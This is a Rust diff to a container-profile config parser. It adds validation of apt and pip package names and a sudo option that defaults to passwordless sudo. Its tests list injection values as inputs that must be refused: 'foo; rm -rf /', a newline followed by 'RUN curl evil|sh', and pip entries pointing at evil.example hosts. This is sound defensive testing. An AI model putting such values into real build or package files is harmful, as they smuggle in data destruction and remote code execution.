@@ -470,10 +470,40 @@ impl<'de> Deserialize<'de> for Port {
 #[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
 #[serde(deny_unknown_fields)]
 pub struct Packages {
-    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    #[serde(
+        default,
+        skip_serializing_if = "Vec::is_empty",
+        deserialize_with = "apt_packages"
+    )]
     pub apt: Vec<String>,
-    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    #[serde(
+        default,
+        skip_serializing_if = "Vec::is_empty",
+        deserialize_with = "pip_packages"
+    )]
     pub pip: Vec<String>,
+}
+
+/// Package names are checked as the file is read, so the error names the file and the line.
+fn apt_packages<'de, D: Deserializer<'de>>(d: D) -> std::result::Result<Vec<String>, D::Error> {
+    checked_names(d, "a Debian package", crate::package_name::check_apt)
+}
+
+fn pip_packages<'de, D: Deserializer<'de>>(d: D) -> std::result::Result<Vec<String>, D::Error> {
+    checked_names(d, "a pip requirement", crate::package_name::check_pip)
+}
+
+fn checked_names<'de, D: Deserializer<'de>>(
+    d: D,
+    what: &str,
+    check: fn(&str) -> std::result::Result<(), String>,
+) -> std::result::Result<Vec<String>, D::Error> {
+    let names = Vec::<String>::deserialize(d)?;
+    for name in &names {
+        // `{:?}` shows a newline or an escape character as such, not as a line break.
+        check(name).map_err(|m| de::Error::custom(format!("{name:?} is not {what}: {m}")))?;
+    }
+    Ok(names)
 }
 
 /// The container's command: a list (exec form) or a string run by `/bin/sh -c`.
@@ -969,6 +999,7 @@ pub struct Layer {
     pub packages: Option<Packages>,
     pub command: Option<Command>,
     pub ca_bundle: Option<String>,
+    pub sudo: Option<bool>,
     pub kubernetes: Option<Kubernetes>,
     /// Only at the top level of a file: the profile `ptenv up` uses without a MODE.
     pub default: Option<String>,
@@ -1044,7 +1075,7 @@ fn check_image(image: &str) -> std::result::Result<(), String> {
 }
 
 /// Every key a layer accepts, for "did you mean" suggestions.
-pub const KEYS: [&str; 22] = [
+pub const KEYS: [&str; 23] = [
     "description",
     "mode",
     "pytorch",
@@ -1064,6 +1095,7 @@ pub const KEYS: [&str; 22] = [
     "packages",
     "command",
     "ca_bundle",
+    "sudo",
     "kubernetes",
     "default",
     "profiles",
@@ -1089,7 +1121,8 @@ impl Layer {
             gpus,
             bind,
             command,
-            ca_bundle
+            ca_bundle,
+            sudo
         );
         // shm_size and ipc decide the same thing (/dev/shm); the higher layer's choice wins.
         if over.ipc == Some(Ipc::Host) {
@@ -1183,6 +1216,8 @@ pub struct Profile {
     pub command: Option<Vec<String>>,
     #[serde(skip_serializing_if = "Option::is_none")]
     pub ca_bundle: Option<String>,
+    /// Passwordless sudo for the container user ([`DEFAULT_SUDO`]).
+    pub sudo: bool,
     pub workdir: String,
     #[serde(skip_serializing_if = "is_default")]
     pub kubernetes: Kubernetes,
@@ -1209,6 +1244,10 @@ pub const DEFAULT_REPOSITORY: &str = "pytorch/pytorch";
 pub const DEFAULT_PYTORCH: &str = "2.6";
 /// The profile `ptenv up` starts when neither the command line nor a file names one.
 pub const DEFAULT_PROFILE: &str = "jupyter";
+/// The container user gets passwordless sudo unless a profile says `sudo: false`: as in a
+/// dev container, `sudo apt-get install` must work in the environment. It also means anyone
+/// with a shell in the container is root in it.
+pub const DEFAULT_SUDO: bool = true;
 
 /// Where a layer came from, for messages and `ptenv profiles`.
 #[derive(Debug, Clone, PartialEq, Eq)]
@@ -1642,6 +1681,7 @@ fn finish(name: &str, l: Layer) -> Result<Profile> {
         packages: l.packages.unwrap_or_default(),
         command: l.command.map(|c| c.0),
         ca_bundle: l.ca_bundle,
+        sudo: l.sudo.unwrap_or(DEFAULT_SUDO),
         workdir: WORKDIR.to_string(),
         kubernetes: l.kubernetes.unwrap_or_default(),
     })
@@ -1680,6 +1720,47 @@ mod tests {
 
     fn err(text: &str) -> Error {
         parse(text, Path::new("ptenv.yaml")).unwrap_err()
+    }
+
+    #[test]
+    fn hostile_package_names_are_refused_with_the_file_and_the_value() {
+        for (key, name) in [
+            ("apt", "--allow-unauthenticated"),
+            ("apt", "foo; rm -rf /"),
+            ("apt", "a\nRUN curl evil|sh"),
+            ("pip", "-e git+https://evil.example/x.git"),
+            ("pip", "--index-url=http://evil"),
+            ("pip", "a\nRUN curl evil|sh"),
+        ] {
+            let text = format!(
+                "profiles:\n  t:\n    mode: shell\n    packages: {{{key}: [ok1, {}]}}\n",
+                serde_json::to_string(name).unwrap()
+            );
+            let e = err(&text).to_string();
+            assert!(e.starts_with("ptenv.yaml:4:"), "{e}");
+            assert!(e.contains(&format!("{name:?}")), "{e}");
+        }
+        let p = project("packages: {apt: [git, \"libc6:amd64=2.36-9\"], pip: [\"numpy>=2\", \"black[jupyter] ~= 24.1\"]}\n")
+            .resolve("shell", &Layer::default())
+            .unwrap();
+        assert_eq!(p.packages.apt, ["git", "libc6:amd64=2.36-9"]);
+        assert_eq!(p.packages.pip, ["numpy>=2", "black[jupyter] ~= 24.1"]);
+    }
+
+    #[test]
+    fn sudo_is_on_unless_a_layer_turns_it_off() {
+        let on = Sources::default()
+            .resolve("shell", &Layer::default())
+            .unwrap();
+        assert!(on.sudo);
+        let off = project("sudo: false\n")
+            .resolve("jupyter", &Layer::default())
+            .unwrap();
+        assert!(!off.sudo);
+        let again = project("sudo: false\nprofiles:\n  t:\n    mode: shell\n    sudo: true\n")
+            .resolve("t", &Layer::default())
+            .unwrap();
+        assert!(again.sudo);
     }
 
     #[test]
